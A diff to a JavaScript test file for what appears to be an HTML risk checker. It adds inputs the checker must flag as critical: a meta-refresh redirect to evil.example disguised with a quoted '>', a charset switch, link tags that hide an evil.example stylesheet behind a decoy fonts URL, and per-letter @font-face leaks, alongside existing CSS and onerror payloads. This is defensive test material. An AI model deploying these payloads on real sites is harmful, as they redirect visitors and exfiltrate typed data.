@@ -624,6 +624,12 @@ describe('everyday content a false-positive hunt found blocked', () => {
       '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
       '<style>@import url(https://evil.example/x.css)</style>',
       '<meta charset="utf-8"><img src=x onerror=alert(1)>',
+      // A review: a `>` inside a quoted attribute, a decoy fonts URL, a second href, fonts that read one letter each.
+      '<meta name="x>" http-equiv="refresh" content="0;url=https://evil.example/">',
+      '<meta charset          =iso-2022-jp>',
+      '<link rel=stylesheet data-href="https://fonts.googleapis.com/" href="https://evil.example/x.css">',
+      '<link rel=stylesheet href=https://evil.example/x.css href=https://fonts.googleapis.com/css>',
+      '<style>@font-face{src:url(//evil.example/?A);unicode-range:U+0041}</style>',
     ])
       assert.equal(worst(v), 'critical', v);
   });
